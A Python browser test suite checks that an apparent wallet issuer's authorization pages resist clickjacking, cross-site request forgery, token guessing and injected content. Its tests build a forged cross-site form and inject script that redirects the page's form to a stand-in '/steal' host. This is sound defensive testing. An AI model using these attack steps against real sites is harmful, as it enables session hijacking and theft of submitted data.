"""What other sites, frames and origins can do with the pages: nothing."""

from collections.abc import Callable

import httpx2
import pytest

from tests.browser.listener import Listener, page
from tests.browser.tab import Tab
from tests.support.raw_wallet import RawWallet, form_fields
from tests.support.server import RunningServer

pytestmark = pytest.mark.browser


@pytest.mark.rule("C-20")
def test_no_other_site_can_frame_a_page(open_tab: Callable[..., Tab], wallet: RawWallet, listener: Listener) -> None:
    url = wallet.authorize_url(wallet.push())
    listener.pages["/frame"] = page(f'<iframe src="{url.replace("&", "&amp;")}"></iframe>')
    tab = open_tab()
    tab.page.goto(f"{listener.foreign_origin}/frame")
    [frame] = tab.page.frames[1:]
    frame.wait_for_load_state()
    assert frame.url == "chrome-error://chromewebdata/"
    assert "frame-ancestors 'none'" in " ".join(tab.take_complaints())


@pytest.mark.rule("C-20")
def test_no_other_site_can_press_the_button(
    open_tab: Callable[..., Tab], wallet: RawWallet, listener: Listener
) -> None:
    tab = open_tab()
    tab.sign_in(wallet.authorize_url(wallet.push()))
    # Even a site that knows everything the form holds: the browser does not send it this person's cookie.
    fields = {**form_fields(tab.page.content()), "action": "approve"}
    inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in fields.items())
    action = f"{wallet.issuer}/authorize/answer"
    form = f'<form method="post" action="{action}">{inputs}<button id="go">go</button></form>'
    listener.pages["/attack"] = page(form)
    attack = tab.page.context.new_page()
    attack.goto(f"{listener.foreign_origin}/attack")
    attack.locator("#go").click()
    assert attack.get_by_role("alert").inner_text() == "This page was not sent by the browser it was shown to."
    assert listener.callbacks == []
    tab.press("Agree and issue")
    assert "code" in listener.callbacks[0]


@pytest.mark.rule("C-20")
def test_a_cookie_without_the_pages_form_is_not_enough(tab: Tab, wallet: RawWallet, listener: Listener) -> None:
    tab.sign_in(wallet.authorize_url(wallet.push()))
    tab.page.locator("input[name=form_token]").evaluate("field => field.value = 'guessed'")
    tab.press("Agree and issue")
    assert tab.heading() == "This did not work"
    assert listener.callbacks == []


def test_what_an_injected_page_could_do_is_forbidden(tab: Tab, wallet: RawWallet, listener: Listener) -> None:
    tab.page.goto(wallet.authorize_url(wallet.push()))
    outside = listener.foreign_origin
    tab.evaluate(
        f"""() => {{
            for (const [tag, member, value] of [
                ["img", "src", "{outside}/image"], ["script", "src", "{outside}/script"],
                ["script", "textContent", "window.injected = true"],
                ["style", "textContent", "body {{ display: none }}"], ["iframe", "src", "{outside}/frame"],
            ]) {{
                const element = document.createElement(tag);
                element[member] = value;
                document.body.append(element);
            }}
        }}"""
    )
    assert tab.evaluate("() => window.injected === undefined && getComputedStyle(document.body).display !== 'none'")
    tab.fill()
    with tab.page.expect_console_message(lambda message: "form-action" in message.text):
        tab.evaluate(
            f"""() => {{
                document.querySelector("form").action = "{outside}/steal";
                document.querySelector("form").requestSubmit();
            }}"""
        )
    assert listener.asked == []
    complaints = " ".join(tab.take_complaints())
    for directive in ("img-src", "script-src", "style-src", "form-action", "default-src"):
        assert directive in complaints


@pytest.mark.parametrize("path", ["/static/vestibule.css", "/static/vestibule.svg"])
def test_pages_find_their_styles_at_any_host(server: RunningServer, path: str) -> None:
    answer = httpx2.get(f"{server.url}{path}", headers={"Host": "pid.example"})
    assert answer.status_code == 200
    assert answer.headers["x-content-type-options"] == "nosniff"
